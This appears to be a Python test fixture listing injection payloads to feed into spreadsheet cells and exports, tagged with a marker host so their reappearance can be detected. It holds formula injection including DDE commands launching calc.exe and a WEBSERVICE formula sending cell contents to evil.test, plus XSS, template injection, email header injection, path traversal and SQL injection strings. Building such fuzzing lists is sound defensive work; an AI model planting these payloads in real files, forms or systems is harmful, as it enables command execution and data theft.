"""What somebody might write into a cell to have it run, open, send or hide something where it comes out again."""

from __future__ import annotations

MARK = "evil.test"
"""Stands in every payload that names a place: where it is found, the payload came through."""

FORMULAS = (
    '=HYPERLINK("http://evil.test/","点我")',
    "=1+1",
    "=cmd|'/c calc.exe'!A1",
    "+cmd|'/c calc.exe'!A1",
    "-cmd|'/c calc.exe'!A1",
    "@SUM(1+1)*cmd|'/c calc.exe'!A1",
    '=WEBSERVICE("http://evil.test/?"&A1)',
    '=IMPORTXML("http://evil.test/","//a")',
    "='file:///evil.test/[a.xlsx]Sheet1'!A1",
    "{=1+1}",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
    ";=1+1",
    '","=1+1',
    "-2+3+cmd|' /C calc'!A0",
)
MARKUP = (
    "<script>alert('evil.test')</script>",
    "<img src=x onerror=\"alert('evil.test')\">",
    '" onmouseover="alert(1)" x="evil.test',
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert('evil.test')",
    "</td></table><iframe src=//evil.test>",
    "&lt;script&gt;evil.test&lt;/script&gt;",
    "<!--",
    "]]><f>1+1</f>",
    "</t></is></c><c><f>1+1</f></c>",
    "<a href='http://evil.test'>点我</a>",
    "<svg/onload=alert(1)>",
)
TEMPLATES = (
    "{{ 7 * 191 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*191}",
    "{0.__class__}",
    "%s%n",
)
MAILS = (
    "a@evil.test, b@evil.test",
    "x\r\nBcc: b@evil.test",
    "x\nSubject: evil.test",
    "张三 <b@evil.test>",
    ".\r\nMAIL FROM:<b@evil.test>",
    "=?utf-8?B?YkBldmlsLnRlc3Q=?=",
)
PATHS = (
    "../../../evil.test",
    "..\\..\\evil.test",
    "/tmp/evil.test",
    "C:\\evil.test",
    "\\\\evil.test\\share\\a.xlsx",
    "file:///evil.test",
    "CON",
    "nul.xlsx",
)
SIGNS = (
    "a\x00b",
    "a\x1b[31mred\x1b[0m",
    "a\x0bb\x0cc",
    "a\u2028b\u2029c",
    "\u202egpj.exe\u202c",
    "a\ufffe\uffffb",
    "_x0041_ _x000D_ =1+1",
    "'; DROP TABLE records; --",
    "[2026-11-03] INFO all is well\nrun 1 done",
)
PAYLOADS = (*FORMULAS, *MARKUP, *TEMPLATES, *MAILS, *PATHS, *SIGNS)
